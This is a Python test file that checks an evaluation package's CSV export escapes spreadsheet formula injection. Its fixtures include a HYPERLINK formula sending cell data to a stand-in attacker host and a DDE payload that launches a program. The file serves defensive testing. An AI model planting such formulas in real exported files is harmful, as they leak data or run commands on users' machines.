"""A table's CSV opened in a spreadsheet shows a run folder's text, never runs it: a label
that starts like a formula (a manifest's model `=HYPERLINK(...)`) is escaped with a leading
', and every number stays a number."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest

import mad_eval
from mad_eval.reporting.tables import spreadsheet_text

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [(FORMULA, "'" + FORMULA), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("-", "'-"), ("-12.5", "-12.5"), ("+1e3", "+1e3"), ("DAPO", "DAPO"), ("a=b", "a=b"),
     (-12.5, -12.5), (None, None)],
)  # fmt: skip
def test_a_cell_that_starts_a_formula_is_text(cell, shown):
    assert spreadsheet_text(cell) == shown


def test_a_manifests_model_name_reaches_the_csv_as_text(tmp_path: Path):
    run = tmp_path / "r"
    mad_eval.run(limit=3, agents=2, rounds=1, out=run)
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["config"]["model"] = FORMULA
    (run / "manifest.json").write_text(json.dumps(manifest))

    text = mad_eval.table([run], format="csv")
    frame = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert set(frame["method"]) == {"'" + FORMULA}
    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.splitlines())
    assert pd.read_csv(io.StringIO(text))["value"].dtype.kind == "f"  # numbers stay numbers

    labelled = mad_eval.table([run], format="csv", label={"r": "-1+1"})
    assert set(pd.read_csv(io.StringIO(labelled))["method"]) == {"'-1+1"}


def test_a_negative_number_in_a_csv_stays_a_number():
    from mad_eval.reporting.tables import COLUMNS, to_csv

    row = {c: None for c in COLUMNS} | {"method": "-0.5", "metric": "Δ", "value": -12.5}
    text = to_csv(pd.DataFrame([row], columns=COLUMNS))
    read = pd.read_csv(io.StringIO(text))
    assert read["value"].tolist() == [-12.5] and read["method"].tolist() == [-0.5]
